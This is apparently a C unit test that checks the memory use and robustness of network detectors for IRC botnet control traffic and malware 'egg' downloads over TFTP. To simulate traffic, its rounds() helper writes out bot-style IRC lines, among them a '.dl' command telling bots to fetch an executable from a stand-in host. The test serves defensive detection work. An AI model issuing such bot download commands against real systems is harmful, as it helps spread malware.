/* SPDX-License-Identifier: GPL-3.0-or-later */
/* irc_control and egg: what they keep is bounded: a million flows, and lines, files and orders of more hosts than they
 * have room for, and no byte more after than before. */
#include <malloc.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>

#include <cmocka.h>

#include "rig.h"

#define FLOWS 1000000u

/* 0 where the allocator does not tell (sanitizers have their own). */
static size_t heap(void)
{
        struct mallinfo2 m = mallinfo2();

        return m.uordblks + m.hblkhd;
}

static bool heap_tells(void)
{
        size_t before = heap();
        _cleanup_free_ char *p = malloc(1 << 20);
        bool tells;

        assert_non_null(p);
        memset(p, 1, 1 << 20);
        tells = heap() > before;
        return tells;
}

static struct addr home(unsigned n)
{
        return addr_from_v4(htonl(0x0a000000u + n % 0x00ffffffu));
}

static void line(struct rig *r, unsigned n, bool out, const char *text)
{
        struct event e = {.type = EVENT_IRC, .op = IRC_LINE};

        e.irc.ends = (struct ends){.flow_id = n + 1,
                                   .local = home(n),
                                   .remote = rig_outside(n % 5000),
                                   .local_port = 40000,
                                   .remote_port = 6667,
                                   .proto = IPPROTO_TCP,
                                   .origin = FLOW_ORIGINATED,
                                   .from_local = out};
        e.irc.from_client = out;
        e.irc.text = (struct slice){text, (uint32_t) strlen(text)};
        rig_event(r, &e);
}

static void file(struct rig *r, unsigned n, bool out)
{
        struct event e = {.type = EVENT_FILE, .op = FILE_SEEN};

        e.file.ends = (struct ends){.flow_id = n + 1,
                                    .local = home(n),
                                    .remote = rig_outside(n),
                                    .local_port = 5554,
                                    .remote_port = 69,
                                    .proto = IPPROTO_UDP,
                                    .origin = out ? FLOW_ACCEPTED : FLOW_ORIGINATED,
                                    .from_local = out};
        e.file.kind = FILE_PE;
        e.file.how = FILE_TFTP;
        e.file.size = UINT64_MAX;
        rig_event(r, &e);
}

static void flow(struct rig *r, unsigned n)
{
        struct event e = rig_flow(r, IPPROTO_TCP, rig_outside(n), (uint16_t) n);

        e.flow.local = home(n / 16);
        e.flow.origin = n % 3 ? FLOW_ORIGINATED : FLOW_ACCEPTED;
        e.flow.state = FLOW_STATE_ESTABLISHED;
        rig_event(r, &e);
        if (n % 4)
                rig_end(r, &e, n % 2);
}

static void rounds(struct rig *r, unsigned from, unsigned n)
{
        for (unsigned i = from; i < from + n; i++) {
                flow(r, i);
                r->now += NSEC_PER_MSEC;
                if (i % 16)
                        continue;
                line(r, i / 16, true, "NICK JPN|425015894");
                line(r, i / 16, true, "JOIN #x key");
                line(r, i / 16, false, ":op!o@h PRIVMSG #x :.dl http://files.example/a/x.exe y.exe 1");
                file(r, i / 16, i % 32 == 0);
        }
}

static void flat(const char *detector, size_t limit)
{
        size_t before = heap(), warm, after;
        struct rig r;

        rig_open(&r, detector, NULL);
        rounds(&r, 0, FLOWS / 2);
        warm = heap();
        rounds(&r, FLOWS / 2, FLOWS / 2);
        after = heap();
        if (heap_tells()) {
                assert_int_equal(after, warm);
                assert_in_range(warm - before, 1, limit);
                printf("%s: %zu kB after %u flows\n", detector, (after - before) / 1024, FLOWS);
        }
        assert_true(r.claims > 0);
        rig_close(&r);
}

static void test_flows(void **state)
{
        (void) state;
        flat("irc_control", 11u << 20); /* docs/irc-control.md */
        flat("egg", 6u << 20);          /* docs/egg.md */
}

/* Anything at all in the events' fields. */
static void test_storm(void **state)
{
        static const char *const names[] = {"irc_control", "egg"};

        (void) state;
        for (size_t i = 0; i < ELEMENTSOF(names); i++) {
                struct rig r;

                rig_open(&r, names[i], NULL);
                rig_storm(&r, 100000);
                rig_close(&r);
        }
}

int main(void)
{
        const struct CMUnitTest tests[] = {cmocka_unit_test(test_flows), cmocka_unit_test(test_storm)};

        return cmocka_run_group_tests(tests, NULL, NULL);
}
